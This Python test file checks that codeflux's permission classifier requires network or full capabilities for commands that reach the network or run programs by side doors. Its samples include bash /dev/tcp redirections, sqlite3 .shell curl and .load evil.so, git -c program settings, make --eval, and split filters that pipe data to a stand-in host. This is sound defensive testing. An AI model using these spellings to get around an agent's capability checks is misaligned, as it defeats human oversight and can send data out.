"""Side doors: programs and spellings that reach the network (or run anything) while looking like `process`.

Each case here was once asked with only ``process``, so a recorded ``network`` denial did not refuse it.
Every side door must now need ``network`` (host-scoped where the argv names the host) or every capability;
the precision cases check that ordinary commands did not gain needs on the way.
"""

from __future__ import annotations

import shlex
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from codeflux.authority.classify import Classification, classify_tool_request
from codeflux.authority.classify.unknown import MAX_GUESSED_WORDS
from codeflux.domain.capabilities import Capability, CapabilityNeed
from codeflux.domain.tools import bind_tool_request

pytestmark = pytest.mark.security

C = Capability
EVERYTHING_BUT_AUTOMATIC = frozenset(Capability) - {C.READ, C.TASK_WRITE}
CURL = "curl -s https://x.example/data"


def run(*argv: str) -> Classification:
    return classify_tool_request(bind_tool_request("run_command", {"argv": list(argv)}))


def hosts(classification: Classification) -> set[str | None]:
    return {need.resource for need in classification.need_set() if need.capability is C.NETWORK}


def is_refused_by_a_network_denial(classification: Classification) -> bool:
    denied = CapabilityNeed(capability=C.NETWORK)
    return any(need.overlaps(denied) for need in classification.need_set())


def ids(cases: list[list[str]]) -> list[str]:
    return [shlex.join(argv)[:60] for argv in cases]


# ─── bash's /dev/tcp and /dev/udp ─────────────────────────────────────────────────────────────────

SOCKET_REDIRECTIONS = [
    ["bash", "-c", "echo hi >/dev/tcp/x.example/80"],
    ["bash", "-c", "cat </dev/udp/x.example/53"],
    ["bash", "-c", "exec 3<>/dev/tcp/x.example/80; echo GET / >&3; cat <&3"],
    ["sh", "-c", "echo hi > /dev/tcp/x.example/443"],
    ["zsh", "-c", "echo hi >/dev/tcp/X.Example/80"],
    ["dash", "-c", "printf x >>/dev/udp/x.example/9"],
    ["ksh", "-c", "exec 5<>/dev//tcp/x.example/80"],
    ["bash", "-c", "true && { echo hi; } 2>/dev/tcp/x.example/80"],
    ["env", "bash", "-c", "echo >/dev/tcp/x.example/80"],
]


@pytest.mark.parametrize("argv", SOCKET_REDIRECTIONS, ids=ids(SOCKET_REDIRECTIONS))
def test_a_redirection_to_dev_tcp_or_udp_needs_network_for_its_host(argv: list[str]) -> None:
    assert "x.example" in hosts(run(*argv))


@pytest.mark.parametrize(
    "script",
    ["x=/dev/tcp/x.example/80; cat < $x", "echo > /dev/tcp/$HOST/80", "echo > /dev/$KIND/x.example/80",
     "read target < f; echo hi > \"$target\"", "echo > $(cat target)", "echo > `cat target`", "echo > ${T}"],
)
def test_a_redirection_target_decided_at_run_time_may_be_a_socket(script: str) -> None:
    assert None in hosts(run("bash", "-c", script))


@pytest.mark.parametrize(
    "script",
    ["pytest -q > /dev/null 2>&1", "for f in a b; do wc -l \"$f\" > \"$f.count\"; done", "make > out/$target",
     "echo hi > build.log", "echo hi >&2", "sort < input.txt > sorted.txt", "cat /dev/tcp/x.example/80",
     "grep -c x <<< \"$value\"", "cat <<EOF\nhi\nEOF"],
)
def test_ordinary_redirections_and_arguments_need_no_network(script: str) -> None:
    assert C.NETWORK not in run("bash", "-c", script).capabilities()


# ─── sqlite3 ──────────────────────────────────────────────────────────────────────────────────────

SQLITE_RUNS_PROGRAMS = [
    ["sqlite3", "app.db", ".shell curl https://x.example"],
    ["sqlite3", "app.db", ".system curl https://x.example"],
    ["sqlite3", "app.db", ".sh curl https://x.example"],
    ["sqlite3", "app.db", ".SYSTEM curl https://x.example"],
    ["sqlite3", "-cmd", ".system curl https://x.example", "app.db"],
    ["sqlite3", "--cmd", ".shell curl https://x.example", "app.db", "select 1"],
    ["sqlite3", "app.db", "-cmd", ".sh curl https://x.example"],
    ["sqlite3", "app.db", "select 1;\n.shell curl https://x.example"],
    ["sqlite3", "app.db", "select 1 -- then .system curl https://x.example"],
    ["sqlite3", "app.db", ".read '|curl https://x.example'"],
    ["sqlite3", "app.db", ".read commands.sql"],
    ["sqlite3", "app.db", ".load ./evil.so"],
    ["sqlite3", "app.db", ".once |curl -d @- https://x.example"],
    ["sqlite3", "app.db", ".import '|curl https://x.example' t"],
    ["sqlite3", "app.db", ".excel"],
    ["sqlite3", "app.db", "select edit('x', 'curl https://x.example')"],
    ["sqlite3", "app.db", "SELECT load_extension('./evil.so')"],
    ["sqlite3", "-init", "setup.sql", "app.db"],
    ["sqlite3", "-separator", ",", "-init", "setup.sql", "app.db"],
]


@pytest.mark.parametrize("argv", SQLITE_RUNS_PROGRAMS, ids=ids(SQLITE_RUNS_PROGRAMS))
def test_sqlite3_dot_commands_and_functions_that_run_programs_need_everything(argv: list[str]) -> None:
    assert run(*argv).capabilities() >= EVERYTHING_BUT_AUTOMATIC


@pytest.mark.parametrize(
    "argv",
    [["sqlite3", "app.db", "select * from t"], ["sqlite3", "app.db", ".tables"], ["sqlite3", "-csv", "app.db",
     "select 1"], ["sqlite3", "-cmd", ".mode csv", "-cmd", ".headers on", "app.db", "select 1"],
     ["sqlite3", "app.db", ".schema t"],
     ["sqlite3", "app.db", ".output out.csv"]],
)
def test_ordinary_sqlite3_use_is_process_only(argv: list[str]) -> None:
    assert run(*argv).capabilities() == {C.PROCESS}


def test_sqlite3_file_functions_and_dot_command_paths_need_outside_write() -> None:
    assert C.OUTSIDE_WRITE in run("sqlite3", "app.db", "select writefile('/etc/x', 'y')").capabilities()
    assert C.OUTSIDE_WRITE in run("sqlite3", "app.db", ".output /tmp/leak.csv").capabilities()


# ─── make, zip, man ───────────────────────────────────────────────────────────────────────────────

MAKE_EVAL = [
    ["make", "--eval", "$(shell curl https://x.example)"],
    ["make", "--eval=x:=$(shell curl https://x.example)", "all"],
    ["make", "--ev=$(shell curl https://x.example)"],
    ["make", "-E", "$(shell curl https://x.example)"],
    ["make", "-E$(shell curl https://x.example)"],
    ["make", "-sE", "$(shell curl https://x.example)"],
    ["gmake", "-j4", "--eval", "all: ; curl https://x.example"],
]


@pytest.mark.parametrize("argv", MAKE_EVAL, ids=ids(MAKE_EVAL))
def test_make_eval_in_every_spelling_needs_everything(argv: list[str]) -> None:
    assert run(*argv).capabilities() >= EVERYTHING_BUT_AUTOMATIC


@pytest.mark.parametrize("argv", [["make"], ["make", "-j4", "test"], ["make", "-e", "-C", "sub", "-f", "M.mk", "all"],
                                  ["make", "-WE", "all"]])
def test_make_without_eval_is_process_only(argv: list[str]) -> None:
    assert run(*argv).capabilities() == {C.PROCESS}


TEST_COMMANDS = [
    ["zip", "-T", "-TT", CURL, "a.zip", "README.md"],
    ["zip", "-TT" + CURL, "-T", "a.zip", "README.md"],
    ["zip", "-rTT", CURL, "a.zip", "src"],
    ["zip", "-TT=" + CURL, "-T", "a.zip", "src"],
    ["zip", "--unzip-command", CURL, "-T", "a.zip", "src"],
    ["zip", "--unzip-command=" + CURL, "-T", "a.zip", "src"],
    ["man", "-P", CURL, "ls"],
    ["man", "-P" + CURL, "ls"],
    ["man", "-aP", CURL, "ls"],
    ["man", "--pager", CURL, "ls"],
    ["man", "--pager=" + CURL, "ls"],
    ["man", "--pag=" + CURL, "ls"],
    ["man", "-H" + CURL, "ls"],
    ["man", "--html=" + CURL, "ls"],
]


@pytest.mark.parametrize("argv", TEST_COMMANDS, ids=ids(TEST_COMMANDS))
def test_zip_test_commands_and_man_pagers_are_read_as_commands(argv: list[str]) -> None:
    assert "x.example" in hosts(run(*argv))


def test_sort_compress_programs_and_split_filters_are_read_as_commands() -> None:
    assert None in hosts(run("sort", "--compress-program=/usr/bin/curl", "big.txt"))
    assert None in hosts(run("sort", "-S", "1G", "--compress-prog", "curl", "big.txt"))
    assert "x.example" in hosts(run("split", "-l", "10", "--filter=curl -d @- https://x.example", "big.txt"))
    assert run("sort", "-u", "names.txt").capabilities() == {C.PROCESS}


def test_plain_zip_and_man_are_process_only_and_man_config_or_browser_is_not() -> None:
    assert run("zip", "-r", "a.zip", "src").capabilities() == {C.PROCESS}
    assert run("man", "-k", "curl").capabilities() == {C.PROCESS}
    assert run("man", "-LP", "ls").capabilities() == {C.PROCESS}  # -L takes "P" as its locale
    assert run("man", "-C", "my.conf", "ls").capabilities() >= EVERYTHING_BUT_AUTOMATIC
    assert None in hosts(run("man", "-H", "ls"))


# ─── git ──────────────────────────────────────────────────────────────────────────────────────────

GIT_GREP_PAGERS = [
    ["git", "grep", "-O" + CURL, "TODO"],
    ["git", "grep", "-nO" + CURL, "TODO"],
    ["git", "grep", "--open-files-in-pager=" + CURL, "TODO"],
    ["git", "grep", "--open-files=" + CURL, "TODO"],
    ["git", "-C", "sub", "grep", "-O" + CURL, "TODO"],
]


@pytest.mark.parametrize("argv", GIT_GREP_PAGERS, ids=ids(GIT_GREP_PAGERS))
def test_git_grep_open_files_in_pager_is_read_as_a_command(argv: list[str]) -> None:
    assert "x.example" in hosts(run(*argv))


def test_git_grep_with_the_configured_pager_needs_everything_and_plain_grep_nothing() -> None:
    assert run("git", "grep", "-O", "TODO").capabilities() >= EVERYTHING_BUT_AUTOMATIC
    assert run("git", "grep", "--open-files-in-pager", "TODO").capabilities() >= EVERYTHING_BUT_AUTOMATIC
    assert run("git", "grep", "-n", "-e", "TODO", "--", "src").capabilities() == {C.PROCESS}
    assert run("git", "grep", "-eO", "x").capabilities() == {C.PROCESS}  # -e takes "O" as its pattern


GIT_PROGRAM_SETTINGS = [
    "diff.external", "gpg.program", "gpg.ssh.program", "gpg.x509.program", "gpg.ssh.defaultKeyCommand",
    "core.sshCommand", "core.pager", "core.editor", "core.askPass", "core.gitProxy", "core.fsmonitor",
    "sequence.editor", "credential.helper", "credential.https://example.com.helper", "diff.pdf.textconv",
    "diff.pdf.command", "filter.lfs.clean", "filter.lfs.smudge", "filter.lfs.process", "merge.ours.driver",
    "difftool.x.cmd", "mergetool.x.cmd", "pager.log", "uploadpack.packObjectsHook", "sendemail.sendmailCmd",
    "imap.tunnel", "web.browser", "browser.x.cmd", "man.x.cmd", "remote.origin.uploadpack",
]


@pytest.mark.parametrize("key", GIT_PROGRAM_SETTINGS)
def test_a_git_c_setting_that_names_a_program_is_read_as_that_command(key: str) -> None:
    assert "x.example" in hosts(run("git", "-c", f"{key}=!{CURL}", "status"))
    if not key.startswith("credential."):  # a helper without `!` is `git credential-VALUE`
        assert "x.example" in hosts(run("git", "-c", f"{key}={CURL}", "log"))


def test_git_aliases_and_credential_helpers_are_read_as_git_runs_them() -> None:
    assert "x.example" in hosts(run("git", "-c", "alias.up=fetch https://x.example/r", "up"))
    assert C.CREDENTIAL in run("git", "-c", "credential.helper=store", "status").capabilities()


@pytest.mark.parametrize(
    ("setting", "host"),
    [("http.proxy=http://proxy.x.example:3128", "proxy.x.example"), ("https.proxy=proxy.x.example:3128",
     "proxy.x.example"), ("http.https://github.com.proxy=socks5://proxy.x.example", "proxy.x.example"),
     ("remote.origin.proxy=http://proxy.x.example", "proxy.x.example"),
     ("url.https://x.example/.insteadOf=https://github.com/", "x.example"),
     ("url.git@x.example:.pushInsteadOf=git@github.com:", "x.example"),
     ("remote.origin.url=https://x.example/r.git", "x.example")],
)
def test_a_git_c_proxy_or_rewritten_remote_needs_network_for_its_host(setting: str, host: str) -> None:
    result = run("git", "-c", setting, "status")
    assert host in hosts(result)
    assert C.PRIVILEGED in result.capabilities()


@pytest.mark.parametrize(
    "argv",
    [["git", "-c", "include.path=../evil.cfg", "status"], ["git", "-c", "includeIf.onbranch:x.path=evil.cfg", "log"],
     ["git", "-c", "core.hooksPath=hooks", "commit", "-m", "x"], ["git", "-c", "protocol.ext.allow=always",
     "fetch", "origin"], ["git", "--config-env=core.sshCommand=CMD", "fetch"],
     ["git", "--config-env", "diff.external=CMD", "diff"], ["git", "ls-remote", "ext::sh -c curl% x.example"]],
)
def test_git_settings_that_load_code_or_come_from_the_environment_need_everything(argv: list[str]) -> None:
    assert run(*argv).capabilities() >= EVERYTHING_BUT_AUTOMATIC


def test_harmless_or_disabling_git_settings_gain_nothing() -> None:
    assert run("git", "-c", "color.ui=never", "status").capabilities() == {C.PROCESS}
    assert run("git", "-c", "core.hooksPath=/dev/null", "commit", "-m", "x").capabilities() == {C.PROCESS,
                                                                                                C.PRIVILEGED}
    assert run("git", "-c", "http.proxy=", "status").capabilities() == {C.PROCESS, C.PRIVILEGED}
    assert run("git", "-c", "protocol.file.allow=always", "status").capabilities() == {C.PROCESS, C.PRIVILEGED}


@pytest.mark.parametrize(
    "argv",
    [["git", "fetch", "--upload-pack=" + CURL, "."], ["git", "clone", "-u", CURL, "src", "dst"],
     ["git", "clone", "-c", f"core.sshCommand={CURL}", "src", "dst"], ["git", "push", "--receive-pack", CURL, "."],
     ["git", "config", "core.pager", CURL], ["git", "config", "--local", "diff.external", CURL]],
)
def test_programs_git_transports_and_config_writes_name_are_read(argv: list[str]) -> None:
    assert "x.example" in hosts(run(*argv))


# ─── busybox applets and python -m modules ────────────────────────────────────────────────────────

BUSYBOX_NETWORK = [
    ["busybox", "ftpget", "files.x.example", "local.txt", "remote.txt"],
    ["busybox", "ftpput", "files.x.example", "remote.txt", "local.txt"],
    ["busybox", "ssl_client", "-s", "3", "-n", "x.example"],
    ["busybox", "wget", "https://x.example/a"],
    ["busybox", "nc", "x.example", "80"],
    ["busybox", "telnet", "x.example"],
    ["busybox", "tftp", "-g", "-r", "f", "x.example"],
    ["busybox", "httpd", "-f", "-p", "8080"],
    ["busybox", "ntpd", "-p", "pool.x.example"],
    ["busybox", "rdate", "x.example"],
    ["busybox", "nslookup", "x.example"],
    ["ftpget", "files.x.example", "local.txt", "remote.txt"],
]


@pytest.mark.parametrize("argv", BUSYBOX_NETWORK, ids=ids(BUSYBOX_NETWORK))
def test_busybox_network_applets_need_network(argv: list[str]) -> None:
    assert is_refused_by_a_network_denial(run(*argv))


@pytest.mark.parametrize("applet", ["tcpsvd", "udpsvd", "inetd", "telnetd"])
def test_busybox_servers_that_run_programs_for_the_network_need_everything(applet: str) -> None:
    assert run("busybox", applet, "0", "8080", "cat").capabilities() >= EVERYTHING_BUT_AUTOMATIC


@pytest.mark.parametrize(
    "module",
    ["telnetlib", "poplib", "imaplib", "smtplib", "ftplib", "nntplib", "http.server", "xmlrpc.server",
     "wsgiref.simple_server", "urllib.request", "webbrowser", "smtpd", "uvicorn"],
)
def test_python_network_modules_need_network(module: str) -> None:
    result = run("python3", "-m", module, "x.example")
    assert C.NETWORK in result.capabilities()
    assert C.NETWORK in run("python3.12", "-Im", module).capabilities()


@pytest.mark.parametrize(
    "argv",
    [["python3", "-m", "timeit", "import urllib.request; urllib.request.urlopen('https://x.example')"],
     ["python3", "-m", "timeit", "-s", "import socket", "socket.create_connection(('x.example', 80))"],
     ["python3", "-m", "cProfile", "-m", "http.server"], ["python3", "-m", "trace", "--count", "-m", "telnetlib"],
     ["python3", "-m", "pdb", "-c", "continue", "-m", "poplib"], ["python3", "-m", "cProfile", "-o", "p.out",
     "-m", "pip", "download", "x"]],
)
def test_python_modules_that_run_code_or_other_modules_are_read_through(argv: list[str]) -> None:
    assert C.NETWORK in run(*argv).capabilities()


def test_python_module_options_do_not_belong_to_python() -> None:
    assert run("python3", "-m", "pip", "-v", "install", "x").capabilities() == {C.PROCESS, C.NETWORK, C.INSTALL}
    assert run("python3", "-m", "code").capabilities() >= EVERYTHING_BUT_AUTOMATIC
    assert run("python3", "-m", "pytest", "-q").capabilities() == {C.PROCESS}


# ─── launchers: look through, or everything ───────────────────────────────────────────────────────

Launcher = Callable[[list[str]], list[str]]
LAUNCHERS: list[Launcher] = [
    lambda argv: ["setpriv", "--reuid=1000", "--regid=1000", "--init-groups", *argv],
    lambda argv: ["setpriv", "--nnp", "--", *argv],
    lambda argv: ["prlimit", "--nofile=1024", "--as=1000000000", *argv],
    lambda argv: ["prlimit", "-n1024", "-t", *argv],
    lambda argv: ["dbus-run-session", "--", *argv],
    lambda argv: ["valgrind", "--tool=memcheck", "--leak-check=full", "-q", *argv],
    lambda argv: ["numactl", "--interleave=all", *argv],
    lambda argv: ["numactl", "-C", "0-3", "-m", "0", *argv],
    lambda argv: ["fakeroot", "--", *argv],
    lambda argv: ["fakeroot", "-u", "-s", "state", *argv],
    lambda argv: ["xvfb-run", "-a", "-s", "-screen 0 1024x768x24", *argv],
    lambda argv: ["capsh", "--caps=cap_net_raw+eip", "--", "-c", shlex.join(argv)],
    lambda argv: ["capsh", "--shell=" + argv[0], "--", *argv[1:]],
    lambda argv: ["capsh", "==", "--shell=" + argv[0], "--", *argv[1:]],
    lambda argv: ["faketime", "2020-01-01 00:00:00", *argv],
    lambda argv: ["faketime", "-f", "-1d", *argv],
    lambda argv: ["unshare", "--map-root-user", "--fork", *argv],
    lambda argv: ["script", "-qec", shlex.join(argv), "/dev/null"],
    lambda argv: ["script", "--command", shlex.join(argv), "log.txt"],
    lambda argv: ["ssh-agent", *argv],
    lambda argv: ["eatmydata", *argv],
    lambda argv: ["chronic", "-e", *argv],
    lambda argv: ["tini", "-s", "--", *argv],
    lambda argv: ["dumb-init", "--single-child", *argv],
    lambda argv: ["gosu", "nobody", *argv],
    lambda argv: ["trickle", "-d", "100", *argv],
    lambda argv: ["rlwrap", "-C", "git", *argv],
    lambda argv: ["sg", "wheel", "-c", shlex.join(argv)],
    lambda argv: ["hyperfine", "--warmup", "3", shlex.join(argv)],
    lambda argv: ["chrt", "-f", "10", *argv],
    lambda argv: ["ionice", "-c", "3", *argv],
    lambda argv: ["taskset", "0x1", *argv],
    lambda argv: ["stdbuf", "-oL", *argv],
    lambda argv: ["flock", "lock", *argv],
    lambda argv: ["watch", "-n", "1", shlex.join(argv)],
    lambda argv: ["strace", "-f", "-o", "trace.txt", *argv],
    lambda argv: ["ltrace", "-f", *argv],
    lambda argv: ["setsid", "-w", *argv],
    lambda argv: ["runuser", "-u", "nobody", "-c", shlex.join(argv)],
    lambda argv: ["su", "nobody", "-c", shlex.join(argv)],
    lambda argv: ["frobnicate-launcher", "--level", "3", *argv],
]
NETWORK_COMMANDS = [
    ["curl", "-sS", "https://x.example/data"],
    ["wget", "-q", "http://x.example/a.tar"],
    ["git", "fetch", "https://x.example/r.git"],
    ["ssh", "deploy@x.example", "uptime"],
    ["nc", "x.example", "80"],
    ["python3", "-c", "import urllib.request; urllib.request.urlopen('https://x.example')"],
    ["bash", "-c", "echo hi >/dev/tcp/x.example/80"],
]


@settings(database=None, max_examples=300, deadline=None)
@given(command=st.sampled_from(NETWORK_COMMANDS), launchers=st.lists(st.sampled_from(LAUNCHERS), min_size=1,
                                                                      max_size=3))
def test_launching_a_network_command_never_removes_network_or_its_host(
    command: list[str], launchers: list[Launcher]
) -> None:
    argv = command
    for launch in launchers:
        argv = launch(argv)
    launched, bare = run(*argv), run(*command)
    assert C.NETWORK in launched.capabilities()
    assert hosts(bare) <= hosts(launched)
    assert bare.need_set() <= launched.need_set()


@pytest.mark.parametrize(
    "argv",
    [["setpriv", "--frobnicate", "curl", "x"], ["prlimit", "--frobnicate", "curl", "x"], ["fakeroot"],
     ["unshare", "-r"], ["script", "-q", "log.txt"], ["fakeroot", "--lib", "evil.so", "make"],
     ["dbus-run-session", "--config-file=session.conf", "--", "make"], ["capsh", "--", "-s"],
     ["capsh", "bogus", "--", "-c", "true"], ["sg", "wheel"], ["busybox", "sh"], ["torsocks", "--shell"]],
)
def test_a_launcher_that_cannot_be_read_or_starts_a_shell_needs_everything(argv: list[str]) -> None:
    assert run(*argv).capabilities() >= EVERYTHING_BUT_AUTOMATIC


def test_launcher_options_that_run_a_program_or_use_the_network_are_read() -> None:
    assert None in hosts(run("dbus-run-session", "--dbus-daemon=/usr/bin/curl", "--", "make"))
    assert None in hosts(run("fakeroot", "--faked", "/usr/bin/curl", "make"))
    assert "10.0.0.7" in hosts(run("valgrind", "--log-socket=10.0.0.7:1500", "./a.out"))
    assert None in hosts(run("proxychains4", "-q", "make", "test"))
    assert C.CREDENTIAL in run("ssh-agent", "make", "deploy").capabilities()
    assert run("setpriv", "--dump").capabilities() == {C.PROCESS}
    assert run("capsh", "--print").capabilities() == {C.PROCESS}


# ─── programs codeflux does not know ──────────────────────────────────────────────────────────────

DESTINATIONS = [
    "https://x.example/api", "postgresql://app@db.x.example/app", "s3://bucket/key", "--url=https://x.example",
    "db.x.example:5432", "db:5432", "localhost:8000", "10.0.0.7:80", "0.0.0.0:8000", "[::1]:8080",
    "user@x.example:22", "redis://cache:6379/0",
]


@pytest.mark.parametrize("argument", DESTINATIONS)
def test_an_unknown_program_given_a_destination_needs_unscoped_network(argument: str) -> None:
    assert hosts(run("./client", "--verbose", argument)) == {None}
    assert hosts(run("python3", "tools/fetch.py", argument)) == {None}
    assert hosts(run("bash", "scripts/fetch.sh", argument)) == {None}


NOT_DESTINATIONS = [
    "a:b", "C:1", "C:\\x", "C://x", "HEAD:src/app.py", "main:app", "12:30", "00:01:30", "main.py:10",
    "src/app.py:10", "x:0", "x:65536", "host:080", "999.0.0.1:80", "u:1000", "file:///etc/hosts", "sqlite:///x.db",
    "unix:///var/run/docker.sock", "tests/test_app.py::test_x", "a.b", "--level=3",
]


@pytest.mark.parametrize("argument", NOT_DESTINATIONS)
def test_an_unknown_program_given_something_else_needs_no_network(argument: str) -> None:
    assert C.NETWORK not in run("./client", argument).capabilities()


@pytest.mark.parametrize(
    "argv",
    [["echo", "see https://x.example"], ["grep", "-rn", "https://x.example", "src"], ["grep", "curl", "notes.txt"],
     ["pytest", "-k", "curl", "tests/"], ["mkdir", "-p", "python"], ["cd", "node"], ["which", "curl", "git"],
     ["printf", "%s\n", "db:5432"], ["./tool", "python"], ["./tool", "--name", "export", "x"],
     ["./tool", "--mode", "view", "out.txt"], ["./test-runner", "-k", "open", "tests/"]],
)
def test_programs_that_take_words_as_data_gain_nothing(argv: list[str]) -> None:
    assert C.NETWORK not in run(*argv).capabilities()
    assert not run(*argv).capabilities() >= EVERYTHING_BUT_AUTOMATIC


@pytest.mark.parametrize(
    "argv",
    [["./launch", "curl", "https://x.example"], ["rlwrap", "-C", "git", "curl", "https://x.example"],
     ["perf", "stat", "-e", "cycles", "curl", "https://x.example"], ["nice-wrapper", "-x", "git", "curl",
     "https://x.example"], ["/opt/bin/launcher", "/usr/bin/curl", "https://x.example"]],
)
def test_an_unknown_program_whose_argument_is_a_known_program_is_read_through(argv: list[str]) -> None:
    assert "x.example" in hosts(run(*argv))


def test_an_unknown_program_with_too_many_possible_commands_needs_everything() -> None:
    script = " ".join(["./launch"] + ["nohup ./launch"] * (MAX_GUESSED_WORDS // 8) + ["true"])
    assert run("sh", "-c", script).capabilities() >= EVERYTHING_BUT_AUTOMATIC
    assert run("./launch", *["nohup", "./launch"] * 3, "true").capabilities() == {C.PROCESS}


@settings(database=None, max_examples=200, deadline=None)
@given(filler=st.lists(st.sampled_from(["-v", "--level", "3", "git", "input.txt", "a:b", "-C", "env", "x"]),
                       max_size=6))
def test_a_network_command_inside_an_unknown_program_is_never_hidden_by_what_precedes_it(filler: list[str]) -> None:
    assert "x.example" in hosts(run("./launch", *filler, "curl", "https://x.example"))
